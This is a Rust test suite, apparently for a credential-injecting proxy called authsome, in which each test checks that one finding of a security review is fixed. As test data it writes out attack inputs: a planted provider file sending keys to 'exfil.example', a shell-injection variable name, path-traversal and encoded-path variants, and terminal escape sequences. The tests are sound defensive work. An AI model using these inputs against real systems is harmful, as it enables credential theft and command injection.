//! Other local users and hostile repositories get nothing: one test per
//! finding of the adversarial review, named `itemNN_…` after its finding.

use crate::common::echo::Echo;
use crate::common::fake_as::{http_get, Config, FakeAs};
use crate::common::login_env::LoginEnv;
use authsome::providers::PLACEHOLDER;
use std::path::{Path, PathBuf};
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

/// A BROWSER that only writes down the URL it was given (as `ps` would show
/// it to another user) and opens nothing.
fn recording_browser(env: &mut LoginEnv) -> PathBuf {
    let file = env.dir.path().join("opened-url");
    let script = env.dir.path().join("record-url.sh");
    std::fs::write(&script, format!("#!/bin/sh\nfor u; do :; done\nprintf '%s\\n' \"$u\" >> '{}'\n", file.display())).unwrap();
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    env.set("BROWSER", &script.display().to_string());
    file
}

/// The first URL the recording browser was given.
fn wait_opened(file: &Path, login: &mut Child) -> String {
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        if let Some(line) = std::fs::read_to_string(file).ok().and_then(|s| s.lines().next().map(str::to_owned)) {
            return line;
        }
        assert!(login.try_wait().unwrap().is_none(), "login exited before opening a browser");
        assert!(Instant::now() < deadline, "no browser was opened");
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// POST a urlencoded form with the right Host header: (status, body).
fn http_post(url: &str, form: &[(&str, &str)]) -> (u16, String) {
    use std::io::{Read, Write};
    let u = url::Url::parse(url).unwrap();
    let host = format!("{}:{}", u.host_str().unwrap(), u.port().unwrap());
    let body: String = url::form_urlencoded::Serializer::new(String::new()).extend_pairs(form).finish();
    let mut s = std::net::TcpStream::connect(&host).unwrap();
    write!(
        s,
        "POST {} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        u.path(),
        body.len()
    )
    .unwrap();
    s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    let mut raw = String::new();
    let _ = s.read_to_string(&mut raw);
    let status = raw.split_whitespace().nth(1).and_then(|c| c.parse().ok()).unwrap_or(0);
    (status, raw)
}

fn nonce_of(html: &str) -> Option<String> {
    let i = html.find("name=\"nonce\" value=\"")? + "name=\"nonce\" value=\"".len();
    Some(html[i..].split('"').next()?.to_owned())
}

fn spawn_login(env: &LoginEnv, args: &[&str]) -> Child {
    env.cmd(args).stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap()
}

/// Item 6: another user can read the API-key form (and its nonce) from the
/// port and post their own key. Without the per-login token every path is a
/// bare 404; the opened URL serves the form once, and a second visit aborts.
#[test]
fn item06_login_form_needs_the_per_login_token_and_refuses_a_second_use() {
    let mut env = LoginEnv::new();
    let opened = recording_browser(&mut env);
    let mut login = spawn_login(&env, &["login", "openai"]);
    let url = wait_opened(&opened, &mut login);
    let root = format!("http://{}/", env.callback);
    assert_ne!(url, root, "the opened URL must carry a per-login token");

    // The neighbour, who knows the port but not the URL, sees nothing.
    for path in ["", "apikey", "client", "favicon.ico"] {
        let (status, _, body) = http_get(&format!("{root}{path}"));
        assert_eq!(status, 404, "GET /{path}: {body}");
        assert!(body.is_empty(), "GET /{path} must be a bare 404: {body}");
    }
    let (status, _) = http_post(&format!("{root}apikey"), &[("nonce", "x"), ("api_key", "sk-attacker-0123456789abcdef0123")]);
    assert_eq!(status, 404);

    // The user's browser opens it: the form.
    let (status, _, form) = http_get(&url);
    assert_eq!(status, 200, "{form}");
    assert!(nonce_of(&form).is_some(), "{form}");
    // Someone who read the URL from `ps` opens it again: refused, and the login aborts visibly.
    let (status, _, again) = http_get(&url);
    assert_eq!(status, 403, "{again}");
    assert!(nonce_of(&again).is_none(), "{again}");
    let out = crate::common::login_env::finish(login);
    assert_eq!(out.code, 4, "{}", out.all());
    assert!(out.stderr.contains("aborted") && out.stderr.contains("second time"), "{}", out.all());
    assert!(env.vault().connections.is_empty(), "nothing may be stored after an aborted login");
}

/// Item 6, client-credentials form: the attacker who won the race to the URL
/// (read from `ps`) posts their own OAuth app; the user's browser arriving
/// second is refused and the login aborts before anything is stored.
#[test]
fn item06_client_form_second_use_aborts_the_login() {
    let fake = FakeAs::start(Config::default());
    let mut env = LoginEnv::new();
    env.install_provider(&fake.discord_provider());
    let opened = recording_browser(&mut env);
    let mut login = spawn_login(&env, &["login", "discord"]);
    let url = wait_opened(&opened, &mut login);
    let (status, _, root) = http_get(&format!("http://{}/", env.callback));
    assert_eq!((status, root.as_str()), (404, ""));

    let (status, _, form) = http_get(&url);
    assert_eq!(status, 200, "{form}");
    let nonce = nonce_of(&form).unwrap();
    let (status, _) = http_post(&format!("{url}client"), &[("nonce", &nonce), ("client_id", "attacker-app"), ("client_secret", "x")]);
    assert_eq!(status, 200);
    // The user's browser now opens the address it was given.
    let (status, _, _) = http_get(&url);
    assert_eq!(status, 403);
    let out = crate::common::login_env::finish(login);
    assert_eq!(out.code, 4, "{}", out.all());
    assert!(out.stderr.contains("Discord login aborted"), "{}", out.all());
    let data = env.vault();
    assert!(data.clients.is_empty() && data.connections.is_empty(), "the attacker's client must not be kept");
}

/// Item 16: with the key source out of reach (an empty `AUTHSOME_VAULT_KEY`
/// in a CI fork, no keyring), a read command must not invent a new key
/// beside the existing vault and then call the vault tampered.
#[test]
fn item16_read_command_never_invents_a_vault_key_beside_a_vault() {
    use base64::Engine as _;
    let mut env = LoginEnv::new();
    env.set("AUTHSOME_VAULT_KEY", &base64::engine::general_purpose::STANDARD.encode([7u8; 32]));
    let login = env.run(&["login", "openai"], Some("sk-proj-0123456789abcdef0123456789abcdef"));
    assert_eq!(login.code, 0, "{}", login.all());
    env.set("AUTHSOME_VAULT_KEY", "");
    let get = env.run(&["get", "openai"], None);
    assert_ne!(get.code, 0, "{}", get.all());
    assert!(!env.home().join("vault.key").exists(), "a key was invented beside the vault");
    assert!(!get.stderr.contains("tampered"), "{}", get.all());
    assert!(get.stderr.contains("sealed with the key from AUTHSOME_VAULT_KEY"), "{}", get.all());
    assert!(get.stderr.contains("AUTHSOME_VAULT_KEY is set but empty") && get.stderr.contains("AUTHSOME_NO_KEYRING"), "{}", get.all());
    // The vault still opens with its own key.
    env.set("AUTHSOME_VAULT_KEY", &base64::engine::general_purpose::STANDARD.encode([7u8; 32]));
    assert_eq!(env.run(&["get", "openai", "--field", "status"], None).stdout.trim(), "connected");
}

fn chmod(path: &Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::metadata(path).unwrap().permissions().mode() & 0o7777
}

const OPENAI_KEY: &str = "sk-proj-0123456789abcdef0123456789abcdef";

/// A home with the user's OpenAI key stored (key file, no keyring).
fn home_with_openai() -> LoginEnv {
    let env = LoginEnv::new();
    let login = env.run(&["login", "openai"], Some(OPENAI_KEY));
    assert_eq!(login.code, 0, "{}", login.all());
    env
}

/// Item 7: in a world-writable home another user planted
/// `providers/openai.json` pointing at their host and received the key.
/// authsome refuses the home, naming it and the fix; `doctor` reports and
/// changes nothing, `doctor --fix` tightens it.
#[test]
fn item07_home_writable_by_others_is_refused_and_doctor_only_fixes_when_asked() {
    let env = home_with_openai();
    let home = env.home();
    chmod(&home, 0o777);
    let planted = serde_json::json!({"name": "openai", "display_name": "OpenAI", "auth_type": "api_key",
        "api_url": ["exfil.example"], "api_key": {"header_name": "Authorization", "header_prefix": "Bearer ", "env_var": "OPENAI_API_KEY"}});
    env.install_provider(&planted);
    for args in [&["list"][..], &["get", "openai"], &["run", "--", "true"], &["inspect", "openai"]] {
        let out = env.run(args, None);
        assert_ne!(out.code, 0, "{args:?} used a world-writable home:\n{}", out.all());
        assert!(out.stderr.contains(&home.display().to_string()) && out.stderr.contains("writable by other users"), "{}", out.all());
        assert!(out.stderr.contains("chmod go-w"), "the message must name the fix: {}", out.all());
    }
    let doctor = env.run(&["doctor"], None);
    assert_eq!(doctor.code, 1, "{}", doctor.all());
    assert!(doctor.stdout.contains("✗") && doctor.stdout.contains("writable by other users"), "{}", doctor.all());
    assert_eq!(mode(&home), 0o777, "doctor changed the home without --fix");
    let fixed = env.run(&["doctor", "--fix"], None);
    assert!(fixed.stdout.contains("fixed"), "{}", fixed.all());
    assert_eq!(mode(&home) & 0o022, 0, "doctor --fix did not tighten the home");
}

/// Item 7: a provider override or vault that other users can write is refused.
#[test]
fn item07_provider_file_and_vault_writable_by_others_are_refused() {
    let env = home_with_openai();
    let custom = env.home().join("providers").join("acme.json");
    std::fs::create_dir_all(custom.parent().unwrap()).unwrap();
    chmod(custom.parent().unwrap(), 0o700);
    let out = env.run(&["inspect", "openai"], None);
    assert_eq!(out.code, 0, "{}", out.all());
    std::fs::write(&custom, r#"{"name":"acme","auth_type":"api_key","api_url":["api.acme.test"],"api_key":{"env_var":"ACME_KEY"}}"#)
        .unwrap();
    chmod(&custom, 0o666);
    let out = env.run(&["list"], None);
    assert_ne!(out.code, 0, "{}", out.all());
    assert!(out.stderr.contains("acme.json") && out.stderr.contains("writable by other users"), "{}", out.all());
    std::fs::remove_file(&custom).unwrap();
    chmod(&env.home().join("vaults").join("default.vault"), 0o666);
    let out = env.run(&["get", "openai"], None);
    assert_ne!(out.code, 0, "{}", out.all());
    assert!(out.stderr.contains("default.vault") && out.stderr.contains("writable by other users"), "{}", out.all());
    chmod(&env.home().join("vaults").join("default.vault"), 0o600);
    std::fs::write(env.home().join("vault.key"), "unused").unwrap();
    chmod(&env.home().join("vault.key"), 0o622);
    let out = env.run(&["get", "openai"], None);
    assert!(out.code != 0 && out.stderr.contains("vault.key"), "{}", out.all());
}

/// Item 8: links under the home are never followed: a `run/` link is not
/// chmodded or swept, `audit.log` and lock files are not written through.
#[test]
fn item08_links_under_the_home_are_refused_not_followed() {
    use std::os::unix::fs::symlink;
    let env = home_with_openai();
    let elsewhere = env.dir.path().join("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();
    chmod(&elsewhere, 0o755);
    // A CA bundle name whose "run" is long gone: the sweep would delete it.
    let victim = elsewhere.join("deadbeef.999999.ca.pem");
    std::fs::write(&victim, "not yours").unwrap();
    let run_dir = env.home().join("run");
    let _ = std::fs::remove_dir_all(&run_dir);
    symlink(&elsewhere, &run_dir).unwrap();
    let out = env.run(&["run", "--", "true"], None);
    assert_ne!(out.code, 0, "{}", out.all());
    assert!(out.stderr.contains("symbolic link") && out.stderr.contains("run"), "{}", out.all());
    assert_eq!(mode(&elsewhere), 0o755, "the linked directory was chmodded");
    assert!(victim.exists(), "a file in the linked directory was swept");
    std::fs::remove_file(&run_dir).unwrap();

    let target = env.dir.path().join("other-file");
    std::fs::write(&target, "").unwrap();
    let _ = std::fs::remove_file(env.home().join("audit.log"));
    symlink(&target, env.home().join("audit.log")).unwrap();
    let out = env.run(&["run", "--", "true"], None);
    assert_ne!(out.code, 0, "{}", out.all());
    assert!(out.stderr.contains("audit.log") && out.stderr.contains("symbolic link"), "{}", out.all());
    std::fs::remove_file(env.home().join("audit.log")).unwrap();

    let lock_target = env.dir.path().join("lock-target");
    let _ = std::fs::remove_file(env.home().join("vaults").join("default.lock"));
    symlink(&lock_target, env.home().join("vaults").join("default.lock")).unwrap();
    let out = env.run(&["login", "openai", "--connection", "two"], Some(OPENAI_KEY));
    assert_ne!(out.code, 0, "{}", out.all());
    assert!(!lock_target.exists(), "the lock was created through a link");
}

/// A private home whose runs reach `echo` for `hosts` (and the extra
/// `AUTHSOME_RESOLVE` entries), with a fixed vault key this process shares.
fn upstream_env(echo: &Echo, hosts: &[&str], extra: &[String]) -> LoginEnv {
    let mut env = LoginEnv::new();
    let mut resolve: Vec<String> = hosts.iter().map(|h| echo.resolve(h)).collect();
    resolve.extend(extra.iter().cloned());
    env.set("AUTHSOME_RESOLVE", &resolve.join(","));
    env.set("AUTHSOME_UPSTREAM_CA", &echo.ca_path.display().to_string());
    env
}

/// Store an OAuth access token for `provider` through the library.
fn store_token(env: &LoginEnv, provider: &str, token: &str) {
    let home = authsome::paths::Home::at(env.home(), "default");
    authsome::vault::Vault::open(&home)
        .unwrap()
        .update(|d| {
            let mut c = authsome::vault::Connection::api_key(provider, "default", authsome::secret::Secret::new("x"));
            c.api_key = None;
            c.access_token = Some(authsome::secret::Secret::new(token));
            c.token_type = Some("Bearer".into());
            d.put_connection(c);
            Ok(())
        })
        .unwrap();
}

/// `authsome run` curl on each URL (raw path, placeholder in the header);
/// returns the Authorization header the upstream saw for each request path.
fn through_proxy(env: &LoginEnv, echo: &Echo, urls: &[String], curl_flags: &str) -> Vec<(String, Vec<String>)> {
    let script: String = urls
        .iter()
        .map(|u| format!("curl -s --path-as-is {curl_flags} -o /dev/null -H 'Authorization: Bearer {PLACEHOLDER}' '{u}'; "))
        .collect();
    let out = env.run(&["run", "--", "sh", "-c", &script], None);
    assert_eq!(out.code, 0, "{}", out.all());
    echo.seen().iter().map(|s| (s.target.clone(), s.header("authorization"))).collect()
}

/// Item 10: the real Discord token reached its OAuth endpoints through paths
/// that are the same endpoint to a lenient server.
#[test]
fn item10_oauth_endpoints_are_excluded_on_the_normalised_path() {
    let echo = Echo::start(&["discord.com"]);
    let env = upstream_env(&echo, &["discord.com"], &[]);
    store_token(&env, "discord", "discord-real-token-0123");
    let evil = [
        "/api//oauth2/token",
        "/api/./oauth2/token",
        "/API/OAUTH2/TOKEN",
        "/api/oauth2/%74oken",
        "/api/v10/oauth2/token",
        "/api/v10/oauth2/token/revoke",
        "/api/oauth2/token/",
        "/api/x/../oauth2/token",
    ];
    let mut urls: Vec<String> = evil.iter().map(|p| format!("https://discord.com{p}")).collect();
    urls.push("https://discord.com/api/users/@me".into());
    let seen = through_proxy(&env, &echo, &urls, "");
    assert_eq!(seen.len(), urls.len(), "every request reaches the upstream: {seen:?}");
    for (target, auth) in &seen {
        let real = auth.iter().any(|a| a.contains("discord-real-token"));
        assert_eq!(real, target == "/api/users/@me", "{target}: {auth:?}");
    }
}

/// Item 11: a path-prefix `api_url` could be escaped with dot segments and escapes.
#[test]
fn item11_path_prefix_cannot_be_escaped() {
    let echo = Echo::start(&["api.acme.test"]);
    let env = upstream_env(&echo, &["api.acme.test"], &[]);
    env.install_provider(&serde_json::json!({"name": "tenant", "auth_type": "api_key", "flow": "api_key",
        "api_url": "https://api.acme.test/tenant-a", "api_key": {"header_name": "Authorization", "header_prefix": "Bearer", "env_var": "TENANT_KEY"}}));
    let login = env.run(&["login", "tenant"], Some("tenant-a-real-key-0123"));
    assert_eq!(login.code, 0, "{}", login.all());
    let paths = [
        "/tenant-a/../tenant-b/x",
        "/tenant-a/..%2ftenant-b/x",
        "/tenant-a/%2e%2e/tenant-b/x",
        "/tenant-a/%2E%2E%2Ftenant-b/x",
        "/tenant-a/x",
    ];
    let urls: Vec<String> = paths.iter().map(|p| format!("https://api.acme.test{p}")).collect();
    let seen = through_proxy(&env, &echo, &urls, "");
    assert_eq!(seen.len(), urls.len(), "{seen:?}");
    for (target, auth) in &seen {
        let real = auth.iter().any(|a| a.contains("tenant-a-real-key"));
        assert_eq!(real, target == "/tenant-a/x", "{target}: {auth:?}");
    }
}

/// Item 12: any port of a declared host got the credential. Only the declared
/// port (443) is intercepted; `api.openai.com:8443` is tunnelled blind.
#[test]
fn item12_only_the_declared_port_gets_the_credential() {
    let echo = Echo::start(&["api.openai.com"]);
    let other_port = format!("api.openai.com:8443:127.0.0.1:{}", echo.port);
    let env = upstream_env(&echo, &["api.openai.com"], &[other_port]);
    let login = env.run(&["login", "openai"], Some(OPENAI_KEY));
    assert_eq!(login.code, 0, "{}", login.all());
    let urls = ["https://api.openai.com:8443/v1/models".to_owned(), "https://api.openai.com/v1/models".to_owned()];
    // -k: the blind tunnel ends at the upstream's own certificate, which the run's bundle does not vouch for.
    let seen = through_proxy(&env, &echo, &urls, "-k");
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert_eq!(seen[0].1, vec![format!("Bearer {PLACEHOLDER}")], "port 8443 must get nothing: {seen:?}");
    assert_eq!(seen[1].1, vec![format!("Bearer {OPENAI_KEY}")], "control: port 443 is injected");
}

/// Item 15: a forged `AUTHSOME_SHELL_STATE` made `export` panic (a name with
/// `=`) or print code the shell then ran (a name with `;`). Every name is
/// validated; a forged state is discarded without a panic.
#[test]
fn item15_forged_shell_state_neither_panics_nor_injects_code() {
    use base64::Engine as _;
    let env = LoginEnv::new();
    let dir = tempfile::tempdir().unwrap();
    let marker = dir.path().join("pwned");
    for name in ["A=B".to_owned(), format!("X;touch {};Y", marker.display()), "OK\n".to_owned()] {
        let state = serde_json::json!({"v": 1, "home": env.home(), "profile": "default", "project": "/nonexistent/authsome.toml",
            "active": true, "watched": [], "saved": {name.clone(): "1", "FINE": null}});
        let raw = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(state.to_string());
        for shell in ["bash", "json"] {
            let out = env.cmd(&["export", shell]).current_dir(dir.path()).env("AUTHSOME_SHELL_STATE", &raw).output().unwrap();
            let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
            let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
            assert_eq!(out.status.code(), Some(0), "{name:?} {shell}: {stderr}");
            assert!(!stderr.contains("panicked"), "{stderr}");
            assert!(!stdout.contains(name.trim()), "{name:?} reached the output: {stdout}");
            if shell == "bash" {
                let ran = std::process::Command::new("bash").arg("-c").arg(&stdout).status().unwrap();
                assert!(ran.success() || !marker.exists());
                assert!(!marker.exists(), "the forged name ran as code: {stdout}");
            }
        }
    }
}

/// Item 4: parsing was quadratic (each requirement's line and column counted
/// from the start of the file: 20,000 requirements took seconds in the
/// prompt hook). Ten times the requirements must cost about ten times as much
/// (fastest of three runs each; quadratic parsing costs a hundred times).
#[test]
fn item04_parsing_is_linear_in_the_number_of_requirements() {
    let file = |n: usize| -> String { (0..n).map(|i| format!("[[providers.github]]\nconnection = \"c{i}\"\n")).collect() };
    let fastest = |text: &str| {
        (0..3)
            .map(|_| {
                let mut reg = authsome::providers::Registry::bundled().unwrap();
                let start = Instant::now();
                let project = authsome::project::config::parse(text, Path::new("/p/authsome.toml"), &mut reg).unwrap();
                let took = start.elapsed();
                assert!(project.requirements.len() >= 2000);
                took
            })
            .min()
            .unwrap()
    };
    let (small, large) = (file(2000), file(20000));
    let (t_small, t_large) = (fastest(&small), fastest(&large));
    assert!(t_large < t_small * 30, "2,000 requirements: {t_small:?}, 20,000: {t_large:?} (quadratic)");
}

/// Item 5: terminal escapes in a directory name reached the terminal raw
/// through hook and status messages. Every message escapes control characters.
#[test]
fn item05_terminal_escapes_from_directory_names_are_escaped_in_every_message() {
    let env = LoginEnv::new();
    let parent = tempfile::tempdir().unwrap();
    let evil = parent.path().join("repo\x1b]0;owned\x07\x1b[2J\u{9b}31m\u{202e}");
    std::fs::create_dir(&evil).unwrap();
    std::fs::write(evil.join("authsome.toml"), "[providers.openai]\n").unwrap();
    let run = |args: &[&str]| {
        let out = env.cmd(args).current_dir(&evil).env("AUTHSOME_SHELL_STATE", "").output().unwrap();
        (String::from_utf8_lossy(&out.stdout).into_owned(), String::from_utf8_lossy(&out.stderr).into_owned())
    };
    let raw = |s: &str| s.chars().any(|c| (c.is_control() && c != '\n' && c != '\t') || c == '\u{202e}');
    let mut shown = Vec::new();
    for args in [&["export", "bash"][..], &["status"], &["exec", "--", "true"], &["allow"], &["status"]] {
        let (stdout, stderr) = run(args);
        assert!(
            stderr.contains("repo\\x1b]0;owned\\x07") || stdout.contains("repo\\x1b]0;owned\\x07"),
            "{args:?}: the name is shown, escaped:\n{stdout}\n{stderr}"
        );
        if args[0] != "export" {
            assert!(!raw(&stdout), "{args:?} stdout: {stdout:?}");
        }
        assert!(!raw(&stderr), "{args:?} stderr: {stderr:?}");
        shown.push(stderr);
    }
    // A broken file's report carries nothing raw either.
    std::fs::write(evil.join("authsome.toml"), "[providers.openai\n").unwrap();
    let (_, stderr) = run(&["export", "bash"]);
    assert!(!raw(&stderr) && stderr.contains("invalid table header"), "{stderr:?}");
}

/// Item 14: `authsome deny` did not stop a running `up` ("keeps the previous
/// routes"). A refused reload drops injection at once; the command keeps
/// running, and allowing the file again brings injection back.
#[test]
fn item14_deny_stops_injection_in_a_running_up() {
    use crate::common::project_run::{curl_with, up_with_stderr_log, wait_for_file, ProjectWorld};
    let w = ProjectWorld::new();
    let step =
        |name: &str, url: &str| format!("{} ; touch {name}; while [ ! -f go-{name} ]; do sleep 0.05; done", curl_with("ACME_API_KEY", url));
    let script = format!(
        "{}; {}; {}",
        step("one", "https://api.acme.test/before"),
        step("two", "https://api.acme.test/denied"),
        curl_with("ACME_API_KEY", "https://api.acme.test/allowed-again")
    );
    w.write_toml(&format!("[providers.acme]\n[run]\ncommand = '''{script}'''\n"));
    w.allow();
    let (mut child, log) = up_with_stderr_log(&w);
    let wait_log = |needle: &str| {
        let deadline = Instant::now() + Duration::from_secs(60);
        while !log.lock().unwrap().contains(needle) {
            assert!(Instant::now() < deadline, "no {needle:?}:\n{}", log.lock().unwrap());
            std::thread::sleep(Duration::from_millis(20));
        }
    };
    wait_for_file(&w.dir.join("one"));
    let out = w.run(&["deny"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    wait_log("injection stopped");
    std::fs::write(w.dir.join("go-one"), "").unwrap();
    wait_for_file(&w.dir.join("two"));
    w.allow();
    // The same file is allowed again: the next request is injected again.
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        std::thread::sleep(Duration::from_millis(300));
        let probe = w.run(&["status", "--json"]);
        if String::from_utf8_lossy(&probe.stdout).contains("\"trusted\": true") || Instant::now() > deadline {
            break;
        }
    }
    std::thread::sleep(Duration::from_millis(1500));
    std::fs::write(w.dir.join("go-two"), "").unwrap();
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(0), "{}", log.lock().unwrap());
    let seen = w.world.echo.seen();
    let auth = |target: &str| seen.iter().find(|s| s.target == target).map(|s| s.header("authorization")).unwrap_or_default();
    let key = format!("Bearer {}", crate::common::proxy::ACME_KEY);
    assert_eq!(auth("/before"), vec![key.clone()], "{seen:?}");
    // Denied: the host is no longer decrypted (the request is tunnelled blind, so it carries no credential, if it arrives at all).
    assert!(!auth("/denied").contains(&key), "denied, yet injected: {seen:?}");
    assert_eq!(auth("/allowed-again"), vec![key], "{seen:?}");
}

/// Run `cmd` to completion, killing it and failing the test if it is still
/// running after a generous liveness bound (a hang is the bug being tested).
fn bounded(cmd: &mut std::process::Command, what: &str) -> std::process::Output {
    let mut child = cmd.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let deadline = Instant::now() + Duration::from_secs(30);
    while child.try_wait().unwrap().is_none() {
        if Instant::now() > deadline {
            let _ = child.kill();
            let out = child.wait_with_output().unwrap();
            panic!("{what} hung:\n{}", crate::common::proxy::text(&out));
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    child.wait_with_output().unwrap()
}

fn trust_json(out: &std::process::Output) -> serde_json::Value {
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", crate::common::proxy::text(out)))
}

/// Item 1: `ln -s ../proj/authsome.toml` (or a hard link) in an attacker's
/// directory inherited the trusted project's trust: `exec` ran the trusted
/// command against the attacker's `agent.sh` with the real key, and the
/// shell hook activated. Trust is bound to the directory the file takes
/// effect in: a link from elsewhere is another project, never allowed.
#[test]
fn item01_a_linked_project_file_does_not_inherit_trust() {
    use crate::common::project_run::{curl_with, ProjectWorld};
    use std::os::unix::fs::symlink;
    let w = ProjectWorld::new();
    w.write_toml("[providers.acme]\n[run]\ncommand = \"sh ./agent.sh\"\n");
    std::fs::write(w.dir.join("agent.sh"), curl_with("ACME_API_KEY", "https://api.acme.test/trusted")).unwrap();
    w.allow();
    let out = w.run(&["exec"]);
    assert!(out.status.success(), "control: the trusted project runs: {}", crate::common::proxy::text(&out));

    let parent = w.dir.parent().unwrap().to_owned();
    let (soft, hard) = (parent.join("evil"), parent.join("evil-hard"));
    for d in [&soft, &hard] {
        std::fs::create_dir(d).unwrap();
        std::fs::write(d.join("agent.sh"), curl_with("ACME_API_KEY", "https://api.acme.test/stolen")).unwrap();
    }
    symlink("../proj/authsome.toml", soft.join("authsome.toml")).unwrap();
    std::fs::hard_link(w.dir.join("authsome.toml"), hard.join("authsome.toml")).unwrap();

    for d in [&soft, &hard] {
        let file = d.join("authsome.toml");
        let run_in = |args: &[&str]| {
            let mut c = w.world.cmd(args);
            c.current_dir(d).env_remove("CI").env("AUTHSOME_DAEMON_LINGER", "0.2").env("AUTHSOME_SHELL_STATE", "");
            c.output().unwrap()
        };
        for args in [&["exec"][..], &["up"]] {
            let out = run_in(args);
            let stderr = String::from_utf8_lossy(&out.stderr);
            assert_eq!(out.status.code(), Some(2), "{args:?} in {}: {}", d.display(), crate::common::proxy::text(&out));
            assert!(stderr.contains("is not allowed yet") && stderr.contains(&format!("authsome allow {}", d.display())), "{stderr}");
        }
        let status = trust_json(&run_in(&["status", "--json"]));
        assert_eq!((status["trust"].as_str(), status["file"].as_str()), (Some("not_allowed"), file.to_str()), "{status}");
        // The shell hook activates nothing there.
        let out = run_in(&["export", "json"]);
        let changes = trust_json(&out);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(changes.get("HTTPS_PROXY").is_none() && changes.get("ACME_API_KEY").is_none(), "activated: {changes}");
        assert!(stderr.contains("is not allowed yet"), "{stderr}");
        // Nor does the project proxy the hook would start.
        let out = run_in(&["daemon", "serve", file.to_str().unwrap()]);
        assert_eq!(out.status.code(), Some(2), "daemon serve: {}", crate::common::proxy::text(&out));
        assert!(String::from_utf8_lossy(&out.stderr).contains("is not allowed yet"), "{}", crate::common::proxy::text(&out));
    }
    let stolen: Vec<_> = w.world.echo.seen().into_iter().filter(|s| s.target == "/stolen").collect();
    assert!(stolen.is_empty(), "the attacker's agent ran with the project's connections: {stolen:?}");
}

/// Item 1: `allow` and `deny` in (or naming) a linked directory record that
/// directory, never the project the link points to; a project reached
/// through a linked parent directory is the same project (the same
/// directory takes effect), so it keeps its trust.
#[test]
fn item01_allow_and_deny_through_a_link_name_the_linking_directory() {
    use crate::common::project_run::ProjectWorld;
    use std::os::unix::fs::symlink;
    let w = ProjectWorld::new();
    w.write_toml("[providers.acme]\n");
    w.allow();
    let parent = w.dir.parent().unwrap().to_owned();
    let evil = parent.join("evil");
    std::fs::create_dir(&evil).unwrap();
    symlink("../proj/authsome.toml", evil.join("authsome.toml")).unwrap();
    symlink(&w.dir, parent.join("alias")).unwrap();
    let trust_of = |dir: &Path| trust_json(&w.world.cmd(&["status", "--json"]).current_dir(dir).output().unwrap())["trust"].clone();
    let run = |args: &[&str]| {
        let out = w.world.cmd(args).current_dir(&parent).output().unwrap();
        assert!(out.status.success(), "{args:?}: {}", crate::common::proxy::text(&out));
        crate::common::proxy::text(&out)
    };

    // Naming the link itself: it is the linking directory that gets allowed.
    let said = run(&["allow", evil.join("authsome.toml").to_str().unwrap()]);
    assert!(said.contains(&format!("allowed {}", evil.join("authsome.toml").display())), "{said}");
    assert_eq!(trust_of(&evil), "allowed");
    let said = run(&["deny", evil.to_str().unwrap()]);
    assert!(said.contains(&format!("denied {}", evil.join("authsome.toml").display())), "{said}");
    assert_eq!(trust_of(&evil), "denied");
    assert_eq!(trust_of(&w.dir), "allowed", "denying the link must not touch the project it points to");

    // A linked parent directory: the same directory takes effect, the same trust.
    let said = run(&["deny", parent.join("alias").join("authsome.toml").to_str().unwrap()]);
    assert!(said.contains(&format!("denied {}", w.dir.join("authsome.toml").display())), "{said}");
    assert_eq!(trust_of(&w.dir), "denied");
    assert_eq!(trust_of(&evil), "denied");
}

/// Item 2: a never-allowed file's `[definitions]` were opened by the hook and
/// `status`: a FIFO hung them, `/dev/stdin` swallowed what the user typed
/// next. Nothing an untrusted file names is opened (it says what `allow`
/// would read instead), and a definition path outside the project is refused
/// from the file alone, at its line and column.
#[test]
fn item02_untrusted_definitions_are_never_opened() {
    use std::io::{Read, Write};
    let env = LoginEnv::new();
    let root = tempfile::tempdir().unwrap();
    let fifo_dir = root.path().join("fifo");
    let stdin_dir = root.path().join("stdin");
    for d in [&fifo_dir, &stdin_dir] {
        std::fs::create_dir(d).unwrap();
    }
    nix::unistd::mkfifo(&fifo_dir.join("acme.json"), nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    std::fs::write(fifo_dir.join("authsome.toml"), "[definitions]\nacme = \"acme.json\"\n[providers.acme]\n").unwrap();
    std::fs::write(stdin_dir.join("authsome.toml"), "[definitions]\nacme = \"/dev/stdin\"\n[providers.acme]\n").unwrap();

    // Found by walking up, as another user's file in a shared parent directory would be.
    let below = fifo_dir.join("mywork");
    std::fs::create_dir(&below).unwrap();
    for (dir, said) in [(&fifo_dir, "acme.json"), (&below, "acme.json"), (&stdin_dir, "authsome.toml:2:8: ")] {
        for args in [&["export", "json"][..], &["status"], &["exec", "--", "true"]] {
            // The user's keystrokes, typed ahead on the hook's stdin.
            let (reader, mut writer) = std::io::pipe().unwrap();
            writer.write_all(b"keystrokes\n").unwrap();
            let mut cmd = env.cmd(args);
            cmd.current_dir(dir).env("AUTHSOME_SHELL_STATE", "").stdin(reader.try_clone().unwrap());
            let out = bounded(&mut cmd, &format!("{args:?} in {}", dir.display()));
            let stderr = String::from_utf8_lossy(&out.stderr).into_owned() + &String::from_utf8_lossy(&out.stdout);
            assert!(stderr.contains(said), "{args:?} in {}: {stderr}", dir.display());
            if args[0] != "export" {
                assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
            }
            drop(writer);
            let mut left = String::new();
            let mut reader = reader;
